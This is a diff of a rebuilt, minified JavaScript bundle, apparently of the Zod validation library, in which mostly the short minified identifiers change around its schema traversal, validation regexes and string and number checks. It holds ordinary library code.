 ownKeys(l)){const h=Object.getOwnPropertyDescriptor(l,f);if(d&&!h.enumerable)continue;const m=h.get?pr:h.value?._zod?Ts(
-h.value,e,n):os;m>B&&(B=m)}return B},a=l=>{l>r&&(r=l)},c=t._zod.def,u=c.type;switch(u){case"object":{const l=Nu(c);a(l?o(
+h.value,e,n):os;m>B&&(B=m)}return B},a=l=>{l>r&&(r=l)},c=t._zod.def,u=c.type;switch(u){case"object":{const l=Tu(c);a(l?o(
 l,!0):pr),i(c.catchall);break}case"array":i(c.element);break;case"tuple":for(const l of c.items)i(l);i(c.rest);break;case"\
 record":case"map":i(c.keyType),i(c.valueType);break;case"set":i(c.valueType);break;case"union":for(const l of c.options)
 i(l);break;case"intersection":i(c.left),i(c.right);break;case"optional":case"nullable":case"default":case"prefault":case"\
@@ -1998,96 +2000,96 @@ function":i(c.input),i(c.output);break;case"lazy":{const l=c._cachedInner??(n?t.
 break}case"template_literal":case"string":case"number":case"int":case"boolean":case"bigint":case"symbol":case"undefined":case"\
 null":case"void":case"never":case"any":case"unknown":case"date":case"nan":case"enum":case"literal":case"file":case"trans\
 form":case"custom":break;default:for(const l in c){const d=Object.getOwnPropertyDescriptor(c,l);if(!d||d.get)continue;const B=d.
-value;if(!(!B||typeof B!="object")){if(B._zod)i(B);else if(Array.isArray(B))for(const f of B)i(f)}}}return e.delete(t),Yy(
-t,r)}function Yy(t,e){return e!==pr&&Vu.set(t,e===Ss),e}function lj(t){return Ts(t,new Set,!0)!==os}function Xy(t,e){let n=t.
-buckets.get(e);return n||(n=new WeakMap,t.buckets.set(e,n)),n}let mr;const gr=[],Qy={alloc(t,e,n){const s=mr;if(!s)return n;
+value;if(!(!B||typeof B!="object")){if(B._zod)i(B);else if(Array.isArray(B))for(const f of B)i(f)}}}return e.delete(t),Wy(
+t,r)}function Wy(t,e){return e!==pr&&Zu.set(t,e===Ss),e}function lj(t){return Ts(t,new Set,!0)!==os}function Vy(t,e){let n=t.
+buckets.get(e);return n||(n=new WeakMap,t.buckets.set(e,n)),n}let mr;const gr=[],Yy={alloc(t,e,n){const s=mr;if(!s)return n;
 mr=void 0;const r={value:n,issues:null};return s.set(e.value,r),gr.push(r),n},guard(t){var e;(e=t._zod).deferred??(e.deferred=
-[]),t._zod.deferred.push(()=>{const n=t._zod.parse,s=(r,i)=>{if(i.direction!=="backward"&&tw(i,r.value))throw new Vy;return n(
+[]),t._zod.deferred.push(()=>{const n=t._zod.parse,s=(r,i)=>{if(i.direction!=="backward"&&Qy(i,r.value))throw new qy;return n(
 r,i)};t._zod.parse=s,t._zod.run===n&&(t._zod.run=s)})},attach(t){var e;let n,s=!1,r,i;(e=t._zod).deferred??(e.deferred=[]),
 t._zod.deferred.push(()=>{const o=t._zod.parse,a=(c,u)=>{if(n===void 0){const C=Ts(t,new Set,!1);if(C===os)return t._zod.
-parse=o,t._zod.run===a&&(t._zod.run=o),o(c,u);C===Ss||s?n=!0:s=!0}const l=c.value;if(!qu(l))return o(c,u);let d=u[fo];d||
-(d={buckets:new WeakMap,backEdges:void 0},u[fo]=d);let B;r===u?B=i:(B=Xy(d,t),r=u,i=B);const f=B.get(l);if(f)return c.value=
+parse=o,t._zod.run===a&&(t._zod.run=o),o(c,u);C===Ss||s?n=!0:s=!0}const l=c.value;if(!Ju(l))return o(c,u);let d=u[fo];d||
+(d={buckets:new WeakMap,backEdges:void 0},u[fo]=d);let B;r===u?B=i:(B=Vy(d,t),r=u,i=B);const f=B.get(l);if(f)return c.value=
 f.value,f.issues?f.issues.length&&c.issues.push(...ho(f.issues)):(c.memo=!0,d.backEdges??(d.backEdges=new WeakSet),d.backEdges.
 add(f.value)),c;mr=B;const h=gr.length,m=o(c,u);mr=void 0;const g=gr.length>h?gr.pop():void 0;return m instanceof Promise?
-m.then(C=>(g&&(g.issues=C.issues.length?ho(C.issues):Wu),C)):(g&&(g.issues=m.issues.length?ho(m.issues):Wu),m)};t._zod.parse=
-a,t._zod.run===o&&(t._zod.run=a)})}};function ew(){return Qy}function tw(t,e){const n=t[fo]?.backEdges;return n!==void 0&&
-qu(e)&&n.has(e)}const nw=/^[cC][0-9a-z]{6,}$/,sw=/^[0-9a-z]+$/,rw=/^[0-7][0-9A-HJKMNP-TV-Za-hjkmnp-tv-z]{25}$/,iw=/^[0-9a-vA-V]{20}$/,
-ow=/^[A-Za-z0-9]{27}$/,aw=/^[a-zA-Z0-9_-]{21}$/;function cw(t){return new RegExp(`^[a-zA-Z0-9_-]{${t}}$`)}const uw=/^P(?:(\d+W)|(?!.*W)(?=\d|T\d)(\d+Y)?(\d+M)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+([.,]\d+)?S)?)?)$/,
+m.then(C=>(g&&(g.issues=C.issues.length?ho(C.issues):Uu),C)):(g&&(g.issues=m.issues.length?ho(m.issues):Uu),m)};t._zod.parse=
+a,t._zod.run===o&&(t._zod.run=a)})}};function Xy(){return Yy}function Qy(t,e){const n=t[fo]?.backEdges;return n!==void 0&&
+Ju(e)&&n.has(e)}const ew=/^[cC][0-9a-z]{6,}$/,tw=/^[0-9a-z]+$/,nw=/^[0-7][0-9A-HJKMNP-TV-Za-hjkmnp-tv-z]{25}$/,sw=/^[0-9a-vA-V]{20}$/,
+rw=/^[A-Za-z0-9]{27}$/,iw=/^[a-zA-Z0-9_-]{21}$/;function ow(t){return new RegExp(`^[a-zA-Z0-9_-]{${t}}$`)}const aw=/^P(?:(\d+W)|(?!.*W)(?=\d|T\d)(\d+Y)?(\d+M)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+([.,]\d+)?S)?)?)$/,
 dj=/^[-+]?P(?!$)(?:(?:[-+]?\d+Y)|(?:[-+]?\d+[.,]\d+Y$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:(?:[-+]?\d+W)|(?:[-+]?\d+[.,]\d+W$))?(?:(?:[-+]?\d+D)|(?:[-+]?\d+[.,]\d+D$))?(?:T(?=[\d+-])(?:(?:[-+]?\d+H)|(?:[-+]?\d+[.,]\d+H$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:[-+]?\d+(?:[.,]\d+)?S)?)??$/,
-lw=/^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12})$/,Yu=t=>t?new RegExp(`^([0-9a-fA-F]{8\
+cw=/^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12})$/,Ku=t=>t?new RegExp(`^([0-9a-fA-F]{8\
 }-[0-9a-fA-F]{4}-${t}[0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12})$`):/^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-8][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}|00000000-0000-0000-0000-000000000000|ffffffff-ffff-ffff-ffff-ffffffffffff)$/,
-Bj=null,fj=null,hj=null,dw=/^(?:[A-Za-z0-9_'+\-]+\.)*[A-Za-z0-9_'+\-]*[A-Za-z0-9_+-]@(?:[A-Za-z0-9][A-Za-z0-9\-]*\.)+[A-Za-z]{2,}$/,
+Bj=null,fj=null,hj=null,uw=/^(?:[A-Za-z0-9_'+\-]+\.)*[A-Za-z0-9_'+\-]*[A-Za-z0-9_+-]@(?:[A-Za-z0-9][A-Za-z0-9\-]*\.)+[A-Za-z]{2,}$/,
 pj=/^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/,
 mj=/^(([^<>()\[\]\\.,;:\s@"]+(\.[^<>()\[\]\\.,;:\s@"]+)*)|(".+"))@((\[[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}])|(([a-zA-Z\-0-9]+\.)+[a-zA-Z]{2,}))$/,
 gj=/^[^\s@"]{1,64}@[^\s@]{1,255}$/u,Cj=null,yj=/^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/,
-Bw="^(?=[\\s\\S]*[\\p{Extended_Pictographic}\\p{Regional_Indicator}\\u20E3])[\\p{Extended_Pictographic}\\p{Emoji_Component}]+$";
-function fw(){return new RegExp(Bw,"u")}const hw=/^(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])$/,
-pw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))$/,
+lw="^(?=[\\s\\S]*[\\p{Extended_Pictographic}\\p{Regional_Indicator}\\u20E3])[\\p{Extended_Pictographic}\\p{Emoji_Component}]+$";
+function dw(){return new RegExp(lw,"u")}const Bw=/^(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])$/,
+fw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))$/,
 wj=t=>{const e=util.escapeRegex(t??":");return new RegExp(`^(?:[0-9A-F]{2}${e}){5}[0-9A-F]{2}$|^(?:[0-9a-f]{2}${e}){5}[0\
--9a-f]{2}$`)},mw=/^((25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\/([0-9]|[1-2][0-9]|3[0-2])$/,
-gw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))\/(12[0-8]|1[01][0-9]|[1-9]?[0-9])$/,
-Cw=/^$|^(?:[0-9a-zA-Z+/]{4})*(?:(?:[0-9a-zA-Z+/]{2}==)|(?:[0-9a-zA-Z+/]{3}=))?$/,yw=/^(?:[A-Za-z0-9_-]{4})*(?:[A-Za-z0-9_-]{2,3})?$/,
+-9a-f]{2}$`)},hw=/^((25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\/([0-9]|[1-2][0-9]|3[0-2])$/,
+pw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))\/(12[0-8]|1[01][0-9]|[1-9]?[0-9])$/,
+mw=/^$|^(?:[0-9a-zA-Z+/]{4})*(?:(?:[0-9a-zA-Z+/]{2}==)|(?:[0-9a-zA-Z+/]{3}=))?$/,gw=/^(?:[A-Za-z0-9_-]{4})*(?:[A-Za-z0-9_-]{2,3})?$/,
 bj=/^(?=.{1,253}\.?$)[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[-0-9a-zA-Z]{0,61}[0-9a-zA-Z])?)*\.?$/,
-_j=/^(?=.{1,253}$)([a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+[a-zA-Z]{2,63}$/,ww=/^https?$/,bw=/^\+[1-9]\d{6,14}$/,
+_j=/^(?=.{1,253}$)([a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+[a-zA-Z]{2,63}$/,Cw=/^https?$/,yw=/^\+[1-9]\d{6,14}$/,
 Ej=/^\d(?:[ -]?\d){11,18}$/,kj=/^(?:AED|AFN|ALL|AMD|AOA|ARS|AUD|AWG|AZN|BAM|BBD|BDT|BHD|BIF|BMD|BND|BOB|BOV|BRL|BSD|BTN|BWP|BYN|BZD|CAD|CDF|CHE|CHF|CHW|CLF|CLP|CNY|COP|COU|CRC|CUP|CVE|CZK|DJF|DKK|DOP|DZD|EGP|ERN|ETB|EUR|FJD|FKP|GBP|GEL|GHS|GIP|GMD|GNF|GTQ|GYD|HKD|HNL|HTG|HUF|IDR|ILS|INR|IQD|IRR|ISK|JMD|JOD|JPY|KES|KGS|KHR|KMF|KPW|KRW|KWD|KYD|KZT|LAK|LBP|LKR|LRD|LSL|LYD|MAD|MDL|MGA|MKD|MMK|MNT|MOP|MRU|MUR|MVR|MWK|MXN|MXV|MYR|MZN|NAD|NGN|NIO|NOK|NPR|NZD|OMR|PAB|PEN|PGK|PHP|PKR|PLN|PYG|QAR|RON|RSD|RUB|RWF|SAR|SBD|SCR|SDG|SEK|SGD|SHP|SLE|SOS|SRD|SSP|STN|SVC|SYP|SZL|THB|TJS|TMT|TND|TOP|TRY|TTD|TWD|TZS|UAH|UGX|USD|USN|UYI|UYU|UYW|UZS|VED|VES|VND|VUV|WST|XAD|XAF|XAG|XAU|XBA|XBB|XBC|XBD|XCD|XCG|XDR|XOF|XPD|XPF|XPT|XSU|XTS|XUA|XXX|YER|ZAR|ZMW|ZWG)$/,
-vj=/^[A-Z]{2}(?!00|01|99)\d{2}[A-Z0-9]{11,30}$/,Xu="(?:(?:\\d\\d[2468][048]|\\d\\d[13579][26]|\\d\\d0[48]|[02468][048]00|[1357\
+vj=/^[A-Z]{2}(?!00|01|99)\d{2}[A-Z0-9]{11,30}$/,qu="(?:(?:\\d\\d[2468][048]|\\d\\d[13579][26]|\\d\\d0[48]|[02468][048]00|[1357\
 9][26]00)-02-29|\\d{4}-(?:(?:0[13578]|1[02])-(?:0[1-9]|[12]\\d|3[01])|(?:0[469]|11)-(?:0[1-9]|[12]\\d|30)|(?:02)-(?:0[1-9]|\
-1\\d|2[0-8])))";function _w(t){return new RegExp(`^${t}$`)}const Ew=_w(Xu);function po(t){const e="(?:[01]\\d|2[0-3]):[0-\
+1\\d|2[0-8])))";function ww(t){return new RegExp(`^${t}$`)}const bw=ww(qu);function po(t){const e="(?:[01]\\d|2[0-3]):[0-\
 5]\\d";return typeof t.precision=="number"?t.precision===-1?`${e}`:t.precision===0?`${e}:[0-5]\\d`:`${e}:[0-5]\\d\\.\\d{${t.
-precision}}`:t.seconds?`${e}:[0-5]\\d(?:\\.\\d+)?`:`${e}(?::[0-5]\\d(?:\\.\\d+)?)?`}function kw(t){return new RegExp(`^${po(
-t)}$`)}function vw(t){const e=["Z"];t.offset&&e.push("([+-](?:[01]\\d|2[0-3]):[0-5]\\d)");const n=`${po({precision:t.precision,
-seconds:!0})}(?:${e.join("|")})`,s=t.local?`${n}|${po({precision:t.precision})}`:n;return new RegExp(`^${Xu}T(?:${s})$`)}
-const Dw=/^[\s\S]{0,}$/,Dj=t=>{const e=t?`[\\s\\S]{${t?.minimum??0},${t?.maximum??""}}`:"[\\s\\S]*";return new RegExp(`^${e}\
-$`)},xw=/^-?\d+n?$/,Ow=/^-?\d+$/,mo=/^-?\d+(?:\.\d+)?$/,Aw=/^(?:true|false)$/i,xj=/^null$/i,Oj=/^undefined$/i,Sw=/^[^A-Z]*$/,
-Tw=/^[^a-z]*$/,Aj=/^[0-9a-fA-F]*$/;function Sj(t,e){return new RegExp(`^[A-Za-z0-9+/]{${t}}${e}$`)}function Tj(t){return new RegExp(
+precision}}`:t.seconds?`${e}:[0-5]\\d(?:\\.\\d+)?`:`${e}(?::[0-5]\\d(?:\\.\\d+)?)?`}function _w(t){return new RegExp(`^${po(
+t)}$`)}function Ew(t){const e=["Z"];t.offset&&e.push("([+-](?:[01]\\d|2[0-3]):[0-5]\\d)");const n=`${po({precision:t.precision,
+seconds:!0})}(?:${e.join("|")})`,s=t.local?`${n}|${po({precision:t.precision})}`:n;return new RegExp(`^${qu}T(?:${s})$`)}
+const kw=/^[\s\S]{0,}$/,Dj=t=>{const e=t?`[\\s\\S]{${t?.minimum??0},${t?.maximum??""}}`:"[\\s\\S]*";return new RegExp(`^${e}\
+$`)},vw=/^-?\d+n?$/,Dw=/^-?\d+$/,mo=/^-?\d+(?:\.\d+)?$/,xw=/^(?:true|false)$/i,xj=/^null$/i,Oj=/^undefined$/i,Ow=/^[^A-Z]*$/,
+Aw=/^[^a-z]*$/,Aj=/^[0-9a-fA-F]*$/;function Sj(t,e){return new RegExp(`^[A-Za-z0-9+/]{${t}}${e}$`)}function Tj(t){return new RegExp(
 `^[A-Za-z0-9_-]{${t}}$`)}const Ij=/^[0-9a-fA-F]{32}$/,$j=null,Rj=null,Nj=/^[0-9a-fA-F]{40}$/,Fj=null,Lj=null,Pj=/^[0-9a-fA-F]{64}$/,
 jj=null,Mj=null,Gj=/^[0-9a-fA-F]{96}$/,Hj=null,zj=null,Uj=/^[0-9a-fA-F]{128}$/,Jj=null,Zj=null,ht=N("$ZodCheck",(t,e)=>{
 var n;t._zod??(t._zod={}),t._zod.def=e,(n=t._zod).onattach??(n.onattach=[])}),Kj=t=>{const e=t.value;return!util.nullish(
-e)&&e.size!==void 0},go=t=>{const e=t.value;return!_y(e)&&e.length!==void 0},Cr={number:"number",bigint:"bigint",object:"\
-date"},Qu=N("$ZodCheckLessThan",(t,e)=>{ht.init(t,e);const n=Cr[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value<=e.
+e)&&e.size!==void 0},go=t=>{const e=t.value;return!wy(e)&&e.length!==void 0},Cr={number:"number",bigint:"bigint",object:"\
+date"},Wu=N("$ZodCheckLessThan",(t,e)=>{ht.init(t,e);const n=Cr[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value<=e.
 value:s.value<e.value)||s.issues.push({origin:Cr[typeof s.value]??n,code:"too_big",maximum:typeof e.value=="object"?e.value.
-getTime():e.value,input:s.value,inclusive:e.inclusive,inst:t,continue:!e.abort})}}),el=N("$ZodCheckGreaterThan",(t,e)=>{
+getTime():e.value,input:s.value,inclusive:e.inclusive,inst:t,continue:!e.abort})}}),Vu=N("$ZodCheckGreaterThan",(t,e)=>{
 ht.init(t,e);const n=Cr[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value>=e.value:s.value>e.value)||s.issues.push({
 origin:Cr[typeof s.value]??n,code:"too_small",minimum:typeof e.value=="object"?e.value.getTime():e.value,input:s.value,inclusive:e.
-inclusive,inst:t,continue:!e.abort})}}),Iw=N("$ZodCheckMultipleOf",(t,e)=>{ht.init(t,e),t._zod.check=n=>{if(typeof n.value!=
+inclusive,inst:t,continue:!e.abort})}}),Sw=N("$ZodCheckMultipleOf",(t,e)=>{ht.init(t,e),t._zod.check=n=>{if(typeof n.value!=
 typeof e.value)throw new Error("Cannot mix number and bigint in multiple_of check.");(typeof n.value=="bigint"?e.value!==
-BigInt(0)&&n.value%e.value===BigInt(0):Ey(n.value,e.value)===0)||n.issues.push({origin:typeof n.value,code:"not_multiple\
-_of",divisor:e.value,input:n.value,inst:t,continue:!e.abort})}}),$w=N("$ZodCheckNumberFormat",(t,e)=>{ht.init(t,e),e.format=
-e.format||"float64";const n=e.format?.includes("int"),s=n?"int":"number",[r,i]=Gu[e.format];t._zod.check=o=>{const a=o.value;
+BigInt(0)&&n.value%e.value===BigInt(0):by(n.value,e.value)===0)||n.issues.push({origin:typeof n.value,code:"not_multiple\
+_of",divisor:e.value,input:n.value,inst:t,continue:!e.abort})}}),Tw=N("$ZodCheckNumberFormat",(t,e)=>{ht.init(t,e),e.format=
+e.format||"float64";const n=e.format?.includes("int"),s=n?"int":"number",[r,i]=Lu[e.format];t._zod.check=o=>{const a=o.value;
 if(n){if(!Number.isInteger(a)){o.issues.push({expected:s,format:e.format,code:"invalid_type",continue:!1,input:a,inst:t});
 return}if(!Number.isSafeInteger(a)){a>0?o.issues.push({input:a,code:"too_big",maximum:Number.MAX_SAFE_INTEGER,note:"Inte\
 gers must be within the safe integer range.",inst:t,origin:s,inclusive:!0,continue:!e.abort}):o.issues.push({input:a,code:"\
 too_small",minimum:Number.MIN_SAFE_INTEGER,note:"Integers must be within the safe integer range.",inst:t,origin:s,inclusive:!0,
 continue:!e.abort});return}}a<r&&o.issues.push({origin:"number",input:a,code:"too_small",minimum:r,inclusive:!0,inst:t,continue:!e.
 abort}),a>i&&o.issues.push({origin:"number",input:a,code:"too_big",maximum:i,inclusive:!0,inst:t,continue:!e.abort})}}),
-Wj=null,qj=null,Vj=null,Yj=null,Rw=N("$ZodCheckMaxLength",(t,e)=>{var n;ht.init(t,e),(n=t._zod.def).when??(n.when=go),t.
+qj=null,Wj=null,Vj=null,Yj=null,Iw=N("$ZodCheckMaxLength",(t,e)=>{var n;ht.init(t,e),(n=t._zod.def).when??(n.when=go),t.
 _zod.check=s=>{const r=s.value,i=r.length;if((typeof r=="string"&&i>e.maximum?ao(r):i)<=e.maximum)return;const a=co(r);s.
-issues.push({origin:a,code:"too_big",maximum:e.maximum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Nw=N("$ZodChec\
+issues.push({origin:a,code:"too_big",maximum:e.maximum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),$w=N("$ZodChec\
 kMinLength",(t,e)=>{var n;ht.init(t,e),(n=t._zod.def).when??(n.when=go),t._zod.check=s=>{const r=s.value,i=r.length;if((typeof r==
 "string"&&i>=e.minimum&&i<e.minimum*2?ao(r):i)>=e.minimum)return;const a=co(r);s.issues.push({origin:a,code:"too_small",
-minimum:e.minimum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Fw=N("$ZodCheckLengthEquals",(t,e)=>{var n;ht.init(
+minimum:e.minimum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Rw=N("$ZodCheckLengthEquals",(t,e)=>{var n;ht.init(
 t,e),(n=t._zod.def).when??(n.when=go),t._zod.check=s=>{const r=s.value,i=r.length,o=typeof r=="string"&&i>=e.length&&i<=
 e.length*2?ao(r):i;if(o===e.length)return;const a=co(r),c=o>e.length;s.issues.push({origin:a,...c?{code:"too_big",maximum:e.
 length}:{code:"too_small",minimum:e.length},inclusive:!0,exact:!0,input:s.value,inst:t,continue:!e.abort})}}),yr=N("$Zod\
 CheckStringFormat",(t,e)=>{var n,s;ht.init(t,e),e.pattern?(n=t._zod).check??(n.check=r=>{e.pattern.lastIndex=0,!e.pattern.
 test(r.value)&&r.issues.push({origin:"string",code:"invalid_format",format:e.format,input:r.value,...e.pattern?{pattern:e.
-pattern.toString()}:{},inst:t,continue:!e.abort})}):(s=t._zod).check??(s.check=()=>{})}),Lw=N("$ZodCheckRegex",(t,e)=>{yr.
+pattern.toString()}:{},inst:t,continue:!e.abort})}):(s=t._zod).check??(s.check=()=>{})}),Nw=N("$ZodCheckRegex",(t,e)=>{yr.
 init(t,e),t._zod.check=n=>{e.pattern.lastIndex=0,!e.pattern.test(n.value)&&n.issues.push({origin:"string",code:"invalid_\
-format",format:"regex",input:n.value,pattern:e.pattern.toString(),inst:t,continue:!e.abort})}}),Pw=N("$ZodCheckLowerCase",
-(t,e)=>{e.pattern??(e.pattern=Sw),yr.init(t,e)}),jw=N("$ZodCheckUpperCase",(t,e)=>{e.pattern??(e.pattern=Tw),yr.init(t,e)}),
-Mw=N("$ZodCheckIncludes",(t,e)=>{ht.init(t,e);const n=is(e.includes),s=new RegExp(typeof e.position=="number"?`^.{${e.position}\
+format",format:"regex",input:n.value,pattern:e.pattern.toString(),inst:t,continue:!e.abort})}}),Fw=N("$ZodCheckLowerCase",
+(t,e)=>{e.pattern??(e.pattern=Ow),yr.init(t,e)}),Lw=N("$ZodCheckUpperCase",(t,e)=>{e.pattern??(e.pattern=Aw),yr.init(t,e)}),
+Pw=N("$ZodCheckIncludes",(t,e)=>{ht.init(t,e);const n=is(e.includes),s=new RegExp(typeof e.position=="number"?`^.{${e.position}\
 ,}${n}`:n);e.pattern=s,t._zod.check=r=>{r.value.includes(e.includes,e.position)||r.issues.push({origin:"string",code:"in\
-valid_format",format:"includes",includes:e.includes,input:r.value,inst:t,continue:!e.abort})}}),Gw=N("$ZodCheckStartsWit\
+valid_format",format:"includes",includes:e.includes,input:r.value,inst:t,continue:!e.abort})}}),jw=N("$ZodCheckStartsWit\
 h",(t,e)=>{ht.init(t,e);const n=new RegExp(`^${is(e.prefix)}.*`);e.pattern??(e.pattern=n),t._zod.check=s=>{s.value.startsWith(
 e.prefix)||s.issues.push({origin:"string",code:"invalid_format",format:"starts_with",prefix:e.prefix,input:s.value,inst:t,
-continue:!e.abort})}}),Hw=N("$ZodCheckEndsWith",(t,e)=>{ht.init(t,e);const n=new RegExp(`.*${is(e.suffix)}$`);e.pattern??
+continue:!e.abort})}}),Mw=N("$ZodCheckEndsWith",(t,e)=>{ht.init(t,e);const n=new RegExp(`.*${is(e.suffix)}$`);e.pattern??
 (e.pattern=n),t._zod.check=s=>{s.value.endsWith(e.suffix)||s.issues.push({origin:"string",code:"invalid_format",format:"\
-ends_with",suffix:e.suffix,input:s.value,inst:t,continue:!e.abort})}});function tl(t,e,n){t.issues.length&&e.issues.push(
-...sn(n,t.issues))}const Xj=null,zw=N("$ZodCheckProperties",(t,e)=>{ht.init(t,e),uo(t,Symbol.iterator,function*(){yield t});
+ends_with",suffix:e.suffix,input:s.value,inst:t,continue:!e.abort})}});function Yu(t,e,n){t.issues.length&&e.issues.push(
+...rn(n,t.issues))}const Xj=null,Gw=N("$ZodCheckProperties",(t,e)=>{ht.init(t,e),uo(t,Symbol.iterator,function*(){yield t});
 let n;t._zod.check=s=>{if(s.value==null){s.issues.push({expected:"object",code:"invalid_type",input:s.value,inst:t});return}
 n??(n=Reflect.ownKeys(e.shape).map(o=>[o,e.shape[o]]));const r=s.value;let i;for(const[o,a]of n){const c=a._zod.run({value:r[o],
-issues:[]},{});c instanceof Promise?(i??(i=[]),i.push(c.then(u=>tl(u,s,o)))):tl(c,s,o)}if(i)return Promise.all(i).then(()=>{})}}),
-Qj=null,Uw=N("$ZodCheckOverwrite",(t,e)=>{ht.init(t,e),t._zod.check=n=>{n.value=e.tx(n.value)}});class Jw{constructor(e=[],n={}){
+issues:[]},{});c instanceof Promise?(i??(i=[]),i.push(c.then(u=>Yu(u,s,o)))):Yu(c,s,o)}if(i)return Promise.all(i).then(()=>{})}}),
+Qj=null,Hw=N("$ZodCheckOverwrite",(t,e)=>{ht.init(t,e),t._zod.check=n=>{n.value=e.tx(n.value)}});class zw{constructor(e=[],n={}){
 this.content=[],this.indent=0,this.args=e,this.closed=n}indented(e){this.indent+=1;try{e(this)}finally{this.indent-=1}}write(e){
 if(typeof e=="function"){e(this,{execution:"sync"}),e(this,{execution:"async"});return}const s=e.split(`
 `).filter(o=>o),r=Math.min(...s.map(o=>o.length-o.trimStart().length)),i=s.map(o=>o.slice(r)).map(o=>" ".repeat(this.indent*
@@ -2095,109 +2097,109 @@ if(typeof e=="function"){e(this,{execution:"sync"}),e(this,{execution:"async"});
 this.closed),`return function (${this.args.join(", ")}) {
 ${n.join(`
 `)}
-};`)(...Object.values(this.closed))}}const Zw={major:4,minor:6,patch:7},Ze=N("$ZodType",(t,e)=>{var n;t??(t={}),t._zod.def=
